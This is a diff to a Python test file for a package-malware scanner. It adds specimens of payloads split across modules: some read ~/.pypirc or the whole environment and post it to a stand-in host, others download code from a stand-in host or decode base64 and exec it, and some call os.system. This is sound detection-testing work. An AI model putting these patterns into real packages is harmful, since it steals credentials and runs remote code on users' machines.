@@ -1,6 +1,6 @@
 """Payloads whose parts stand in several files: none of the files does anything odd alone."""
 
-from tests.evasion.specimen import COMMAND, PAD, Specimen, npm
+from tests.evasion.specimen import COMMAND, PAD, Specimen, npm, pypi
 
 _READ = "const fs = require('fs');\nconst os = require('os');\n"
 _SECRET = "fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')"
@@ -13,6 +13,141 @@ def _two(title: str, reader: str, sender: str, entry: str, **more: str) -> Speci
     files = {"lib/read.js": reader, "lib/send.js": sender, **{f"lib/{name}.js": text for name, text in more.items()}}
     return npm("flows across files", title, entry, files)
 
+
+_LATER = "that a call makes another module's code run sooner is not followed: the flow is found, and weighs less"
+_PY_READ = "import os\n"
+_PY_SECRET = "open(os.path.expanduser('~/.pypirc')).read()"
+_PY_SEND = "urllib.request.urlopen('https://collect.invalid/in', data=data)"
+_PY_NET = f"import urllib.request\n\n\ndef send(data):\n    {_PY_SEND}\n"
+_PY_TOKEN = f"{_PY_READ}\n\ndef token():\n    return {_PY_SECRET}\n"
+
+
+def _both(title: str, reader: str, sender: str, entry: str, *, missed: str = "", **more: str) -> Specimen:
+    """Return a specimen of a package that reads in one module, sends in another, and brings them together."""
+    files = {"pad/read.py": reader, "pad/net.py": sender, **{f"pad/{name}.py": text for name, text in more.items()}}
+    return pypi("flows across modules", title, entry, files, missed=missed)
+
+
+MODULES: tuple[Specimen, ...] = (
+    _both(
+        "functions of two modules, by relative imports",
+        _PY_TOKEN,
+        _PY_NET,
+        "from .read import token\nfrom .net import send\nsend(token())\n",
+    ),
+    _both(
+        "the same by the name of the package",
+        _PY_TOKEN,
+        _PY_NET,
+        "import pad.net\nfrom pad import read as r\npad.net.send(data=r.token())\n",
+    ),
+    _both(
+        "modules as names",
+        _PY_TOKEN,
+        _PY_NET,
+        "from . import net, read\nfor part in [read.token()]:\n    net.send({'part': part})\n",
+    ),
+    _both(
+        "a constant of a module",
+        f"{_PY_READ}TOKEN = {_PY_SECRET}\n",
+        f"import urllib.request\nfrom .read import TOKEN as data\n{_PY_SEND}\n",
+        "from . import net\n",
+    ),
+    _both(
+        "the method of an object that another module's class makes",
+        _PY_TOKEN,
+        f"import urllib.request\n\n\nclass Client:\n    def send(self, data):\n        {_PY_SEND}\n",
+        "from .net import Client\nfrom .read import token\nClient().send(token())\n",
+    ),
+    _both(
+        "imported again by a module between",
+        _PY_TOKEN,
+        _PY_NET,
+        "from .all import send, token\nsend(token())\n",
+        all="from .net import send\nfrom .read import token\n",
+    ),
+    _both(
+        "the sender itself asks the reader",
+        _PY_TOKEN,
+        f"import urllib.request\nfrom . import read\n\n\ndef go():\n    data = read.token().encode()\n    {_PY_SEND}\n",
+        "from .net import go\ngo()\n",
+        missed=_LATER,
+    ),
+    _both(
+        "the whole environment",
+        f"{_PY_READ}\n\ndef token():\n    return dict(os.environ)\n",
+        _PY_NET,
+        "from .read import token\nfrom .net import send\nsend(str(token()).encode())\n",
+    ),
+    pypi(
+        "flows across modules",
+        "downloaded in one and executed in another",
+        "from .run import go\ngo()\n",
+        {
+            "pad/get.py": "import urllib.request\n\n\ndef get():\n"
+            "    return urllib.request.urlopen('https://stage.invalid/x').read()\n",
+            "pad/run.py": "from .get import get\n\n\ndef go():\n    exec(get())\n",
+        },
+        missed=_LATER,
+    ),
+    pypi(
+        "flows across modules",
+        "downloaded in one and executed in another as it is loaded",
+        "from . import run\n",
+        {
+            "pad/get.py": "import urllib.request\n\n\ndef get():\n"
+            "    return urllib.request.urlopen('https://stage.invalid/x').read()\n",
+            "pad/run.py": "from .get import get\nexec(get())\n",
+        },
+    ),
+    pypi(
+        "flows across modules",
+        "downloaded in one and handed to another that executes",
+        "from .get import get\nfrom .run import run\nrun(get())\n",
+        {
+            "pad/get.py": "import requests\n\n\ndef get():\n    return requests.get('https://stage.invalid/x').text\n",
+            "pad/run.py": "def run(code):\n    exec(compile(code, 'x', 'exec'))\n",
+        },
+    ),
+    pypi(
+        "flows across modules",
+        "decoded in one and executed in another",
+        "from .run import run\nfrom .text import text\nrun(text('cHJpbnQoMSk='))\n",
+        {
+            "pad/text.py": "import base64\n\n\ndef text(data):\n    return base64.b64decode(data)\n",
+            "pad/run.py": "def run(code):\n    exec(code)\n",
+        },
+    ),
+    pypi(
+        "flows across modules",
+        "a function of another module does it all",
+        "from .run import go\ngo()\n",
+        {"pad/run.py": f"import os\n\n\ndef go():\n    os.system('{COMMAND}')\n"},
+        missed=_LATER,
+    ),
+)
+
+UNLIKE: tuple[Specimen, ...] = (
+    pypi(
+        "no flow",
+        "a client whose settings stand in a module of their own",
+        "",
+        {
+            "pad/config.py": "import os\nURL = 'https://api.invalid'\nLEVEL = os.environ.get('LOG_LEVEL')\n",
+            "pad/client.py": "import requests\nfrom .config import LEVEL, URL\n\n\ndef get(path):\n"
+            "    return requests.get(URL + path, headers={'level': LEVEL})\n",
+        },
+    ),
+    pypi(
+        "no flow",
+        "a token that another function of the same module reads",
+        "",
+        {
+            "pad/config.py": "import os\nURL = 'https://api.invalid'\n\n\ndef token():\n    return os.environ['NPM_TOKEN']\n",
+            "pad/client.py": "import requests\nfrom .config import URL\n\n\ndef get(path):\n    return requests.get(URL + path)\n",
+        },
+    ),
+)
 
 SPECIMENS: tuple[Specimen, ...] = (
     _two(
